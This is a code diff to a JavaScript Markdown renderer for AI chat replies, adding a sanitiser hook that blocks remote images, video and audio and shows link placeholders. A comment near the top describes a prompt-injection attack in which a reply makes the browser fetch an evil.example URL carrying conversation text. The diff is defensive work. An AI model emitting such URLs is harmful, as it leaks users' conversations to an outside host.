@@ -1,23 +1,99 @@
 // Assistant replies are Markdown written by a model: parsed by marked, then sanitised by
 // DOMPurify before they touch the page, so HTML in a reply can never run script.
+//
+// Remote media is never loaded: a reply that a prompt injection wrote could otherwise
+// make the browser fetch `https://evil.example/?d=<conversation text>`. Every image,
+// video, audio or source whose address is not this site's own becomes a placeholder with
+// the link, which the user may choose to open. The check runs inside the sanitiser,
+// before the markup reaches a live document (which would start loading at once).
 import { Marked } from "./vendor/marked.esm.js";
 import DOMPurify from "./vendor/purify.es.mjs";
 
 const marked = new Marked({ gfm: true, breaks: true, async: false });
 
+// Attributes that make a browser fetch a URL by themselves.
+const FETCHING_ATTRIBUTES = ["src", "srcset", "poster", "background", "data", "href", "xlink:href"];
+const MEDIA_TAGS = new Set(["IMG", "VIDEO", "AUDIO", "SOURCE", "TRACK", "PICTURE", "IMAGE"]);
+const REMOTE = "data-remote-url";
+
+function sameOrigin(value) {
+  try {
+    const url = new URL(value, window.location.href);
+    return url.origin === window.location.origin;
+  } catch {
+    return false;
+  }
+}
+
+function srcsetUrls(value) {
+  return value
+    .split(",")
+    .map((candidate) => candidate.trim().split(/\s+/)[0])
+    .filter(Boolean);
+}
+
 DOMPurify.addHook("afterSanitizeAttributes", (node) => {
   if (node.tagName === "A" && node.hasAttribute("href")) {
     node.setAttribute("target", "_blank");
     node.setAttribute("rel", "noopener noreferrer nofollow");
+    return;
   }
+  if (!MEDIA_TAGS.has(node.tagName)) {
+    // A table cell's background image: dropped when it is another site's.
+    if (node.hasAttribute("background") && !sameOrigin(node.getAttribute("background"))) {
+      node.removeAttribute("background");
+    }
+    return;
+  }
+  let remote = null;
+  for (const name of FETCHING_ATTRIBUTES) {
+    if (!node.hasAttribute(name)) continue;
+    const value = node.getAttribute(name);
+    const urls = name === "srcset" ? srcsetUrls(value) : [value];
+    const foreign = urls.find((url) => !sameOrigin(url));
+    if (foreign !== undefined) remote = remote || foreign;
+  }
+  if (remote === null) return;
+  for (const name of FETCHING_ATTRIBUTES) node.removeAttribute(name);
+  node.setAttribute(REMOTE, remote);
 });
 
 const PURIFY = {
   USE_PROFILE: { html: true },
-  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "dialog"],
+  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "dialog", "link", "meta"],
   FORBID_ATTR: ["style"],
+  RETURN_DOM_FRAGMENT: true,
 };
 
+function placeholder(doc, element, holder) {
+  const url = element.getAttribute(REMOTE);
+  const kind = { VIDEO: "Video", AUDIO: "Audio" }[holder.tagName] || "Image";
+  const box = doc.createElement("span");
+  box.className = "remote-media";
+  const label = element.getAttribute("alt") || element.getAttribute("title") || "";
+  box.append(`${kind} from another site, not loaded${label ? ` (${label})` : ""}: `);
+  const link = doc.createElement("a");
+  link.href = url;
+  link.textContent = url.length > 120 ? `${url.slice(0, 117)}…` : url;
+  link.title = "Opens in a new tab: the other site learns the address";
+  link.target = "_blank";
+  link.rel = "noopener noreferrer nofollow";
+  box.append(link);
+  return box;
+}
+
 export function renderMarkdown(text) {
-  return DOMPurify.sanitize(marked.parse(text || ""), PURIFY);
+  // The fragment lives in the sanitiser's own inert document: nothing in it loads.
+  const fragment = DOMPurify.sanitize(marked.parse(text || ""), PURIFY);
+  const doc = fragment.ownerDocument;
+  for (const element of fragment.querySelectorAll(`[${REMOTE}]`)) {
+    // A <picture>, <video> or <audio> becomes one placeholder; its sources go with it.
+    const holder = element.closest("picture, video, audio") || element;
+    if (holder !== element && holder.hasAttribute("data-replaced")) continue;
+    holder.setAttribute("data-replaced", "");
+    holder.replaceWith(placeholder(doc, element, holder));
+  }
+  const container = doc.createElement("div");
+  container.append(fragment);
+  return container.innerHTML;
 }
